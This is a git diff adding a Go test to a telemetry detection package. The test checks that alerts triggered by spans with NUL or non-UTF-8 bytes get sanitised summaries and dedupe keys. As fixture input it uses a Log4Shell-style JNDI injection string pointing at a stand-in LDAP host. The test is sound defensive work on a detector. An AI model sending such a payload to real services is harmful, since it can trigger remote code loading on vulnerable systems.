@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"strings"
 	"testing"
 	"time"
 
@@ -187,6 +188,51 @@ func TestIsLoopback(t *testing.T) {
 	} {
 		if got := isLoopback(host); got != want {
 			t.Errorf("isLoopback(%q) = %v, want %v", host, got, want)
+		}
+	}
+}
+
+// TestAlertText: a span whose name, route or host holds a NUL or bytes
+// that are not UTF-8 (a path a request chose, decoded from /a%00b)
+// makes an alert whose summary and dedupe key are Text, as the store
+// keeps them: the key it seeds a router with after a restart is the one
+// the detection makes again. Before, the detection kept the bytes, and
+// the alert fired again after a restart.
+func TestAlertText(t *testing.T) {
+	rules := mustRules(t)
+	fire := map[string]func(name string) []Alert{
+		"exploit payload": func(name string) []Alert {
+			sp := spanWith("user_agent.original", "${jndi:ldap://x.example/a}")
+			sp.Attrs.HTTPRoute = name
+			return exploits(rules, &sp, nil, tm(0), tm(1))
+		},
+		"new outbound host": func(name string) []Alert {
+			d := NewAnomalies(DefaultAnomalyConfig())
+			for _, sec := range []float64{0, 600} {
+				sp := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindClient, Name: "GET", Start: tm(sec), End: tm(sec),
+					Attrs: telemetry.Attrs{ServerAddress: "api" + name + ".example"}}
+				if sec == 0 {
+					sp.Attrs.ServerAddress = "known.example"
+				}
+				if as := d.Observe(&sp, tm(sec), tm(sec)); sec > 0 {
+					return as
+				}
+			}
+			return nil
+		},
+	}
+	for _, name := range []string{"/a\x00b", "/a\xffb"} {
+		for kind, f := range fire {
+			t.Run(kind+" "+name, func(t *testing.T) {
+				as := f(name)
+				if len(as) != 1 {
+					t.Fatalf("alerts = %+v, want one", as)
+				}
+				a := as[0]
+				if a.Summary != Text(a.Summary) || a.DedupeKey != Text(a.DedupeKey) || !strings.Contains(a.DedupeKey, "\ufffd") {
+					t.Errorf("summary %q, dedupe key %q: want text with U+FFFD in place of %q", a.Summary, a.DedupeKey, name)
+				}
+			})
 		}
 	}
 }
